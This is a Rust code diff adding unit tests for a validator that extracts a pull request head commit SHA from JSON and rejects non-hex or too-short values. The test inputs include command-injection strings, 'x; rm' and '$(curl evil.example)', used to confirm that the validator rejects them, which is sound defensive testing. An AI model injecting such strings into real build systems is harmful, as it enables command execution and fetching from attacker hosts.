@@ -1096,6 +1096,17 @@ mod tests {
             pr_head_sha("pull_request", r#"{"pull_request": {"head": {"sha": "x; rm"}}}"#),
             None
         );
+        // Long enough but not hex, and hex but too short: neither is a commit.
+        let with_sha = |sha: &str| format!(r#"{{"pull_request": {{"head": {{"sha": "{sha}"}}}}}}"#);
+        assert_eq!(
+            pr_head_sha("pull_request", &with_sha("$(curl evil.example)")),
+            None
+        );
+        assert_eq!(pr_head_sha("pull_request", &with_sha("abc12")), None);
+        assert_eq!(
+            pr_head_sha("pull_request", &with_sha("abc1234")).as_deref(),
+            Some("abc1234")
+        );
     }
 
     fn sample() -> Baseline {
